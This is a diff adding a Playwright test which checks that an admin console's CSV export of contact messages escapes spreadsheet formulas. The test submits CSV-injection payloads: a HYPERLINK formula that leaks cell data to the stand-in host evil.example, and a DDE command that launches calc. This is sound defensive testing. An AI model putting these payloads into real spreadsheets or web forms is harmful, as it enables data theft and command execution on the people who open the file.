@@ -1,3 +1,4 @@
+import { readFileSync } from 'node:fs';
 import type { Browser } from 'playwright-core';
 import { ServerProcess, launchBrowser, openPage, startServerProcess } from '@sangam/backend/testing';
 import { signInContext, withDb } from './support/admin';
@@ -34,6 +35,34 @@ describe('admin console: contact messages and statistics', () => {
       db.query<{ handled: boolean }>('SELECT handled FROM contact_messages WHERE id = $1', [id]),
     );
     expect(row.rows[0].handled).toBe(true);
+    await context.close();
+  });
+
+  it('exports messages to CSV with what visitors typed kept as text, never a spreadsheet formula', async () => {
+    // Anyone can send a contact message: an attacker's formula must not run in the admin's spreadsheet.
+    const sent = await fetch(srv.url + '/api/contact', {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      body: JSON.stringify({
+        name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        email: 'attacker@example.com',
+        subject: '+SUM(1+1)*cmd|" /C calc"!A0',
+        message: '@import and -2+3 and plain text',
+      }),
+    });
+    expect(sent.status).toBe(201);
+    const { page, context } = await openPage(browser);
+    await signInContext(context, srv.url);
+    await page.goto(srv.url + '/admin/contact-messages');
+    await page.getByRole('cell', { name: /SUM\(1\+1\)/ }).waitFor();
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export' }).click()]);
+    const csv = readFileSync((await download.path())!, 'utf8');
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
+    expect(csv).toContain(`'+SUM(1+1)*cmd|`);
+    expect(csv).toContain(`'@import and -2+3 and plain text`);
+    expect(csv).toContain('attacker@example.com');
+    // No cell of the file starts a formula.
+    expect(csv.split(/[\n,]/).filter((cell) => /^"?[=+\-@]/.test(cell))).toEqual([]);
     await context.close();
   });
 
